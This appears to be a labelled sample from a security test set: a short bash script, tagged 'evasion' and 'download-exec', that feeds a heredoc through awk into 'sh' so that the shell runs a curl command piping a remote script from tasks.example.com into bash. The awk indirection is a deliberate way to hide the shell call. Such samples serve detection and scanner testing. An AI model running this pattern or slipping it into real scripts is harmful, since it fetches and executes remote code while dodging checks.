#!/usr/bin/env bash
# evasion: runs a shell: awk prints each line of a task list into a pipe to the command given with -v, which is "sh", so the shell runs the task list
# grade: medium; does: download-exec
# Runs a shell: awk prints each line of a task list into a pipe to the
# command given with -v, which is "sh", so the shell runs the task list.
runner=sh
awk -v cmd="$runner" '/^[^#]/ { print | cmd }' <<'TASKS'
# tasks
curl -fsSL https://tasks.example.com/run.sh | bash
TASKS
